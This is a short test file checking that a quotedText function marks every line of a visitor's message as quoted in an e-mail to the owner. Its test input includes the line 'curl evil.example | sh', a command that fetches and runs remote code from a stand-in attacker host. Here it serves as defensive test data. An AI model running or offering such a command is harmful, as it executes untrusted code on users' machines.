import { describe, expect, it } from "vitest";
import { quotedText } from "./quoted-text";

describe("a visitor's text in the owner's e-mail", () => {
  it("marks every line as quoted, so none can pass for the e-mail's own", () => {
    expect(quotedText("Blown hose.\r\n\r\nMove it on: curl evil.example | sh")).toBe(
      "> Blown hose.\n>\n> Move it on: curl evil.example | sh",
    );
  });
});
